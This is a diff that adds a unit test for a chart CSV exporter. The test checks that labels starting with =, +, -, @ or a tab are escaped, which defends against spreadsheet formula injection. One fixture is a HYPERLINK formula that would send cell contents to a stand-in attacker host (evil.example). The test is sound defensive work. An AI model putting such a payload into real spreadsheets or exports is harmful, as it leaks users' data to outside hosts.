@@ -106,6 +106,16 @@ describe('chartTable() and toCsv()', () => {
     expect(withComma.split('\r\n')[0]).to.equal('Month,"Rate, overall (%)"');
     expect(parseCsvNumber('91,2', ',')).to.equal(91.2);
   });
+
+  it('neutralises labels that a spreadsheet would run as a formula, as the server exports do', () => {
+    const en = chartModel(byMonth, { metrics: ['onTimeRate'], lang: 'en' });
+    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Bấm")', '+84-203-3825-123', '-1+1', '@SUM(A1:A9)', '\t=1+1', 'Phường Bãi Cháy'];
+    const csv = toCsv({ ...en, categories: en.categories.map((c, i) => ({ ...c, label: hostile[i]! })) }, 'en', { bom: false });
+    const firstCells = csv.split('\r\n').slice(1, 4).map((line) => line.slice(0, line.lastIndexOf(',')));
+    expect(firstCells).to.deep.equal(['"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Bấm"")"', "'+84-203-3825-123", "'-1+1"]);
+    const vi = toCsv({ ...model, series: [{ ...model.series[0]!, label: '=1+1' }] }, 'vi', { bom: false });
+    expect(vi.split('\r\n')[0]).to.equal("Tháng;'=1+1 (%)");
+  });
 });
 
 describe('buildChartConfig()', () => {
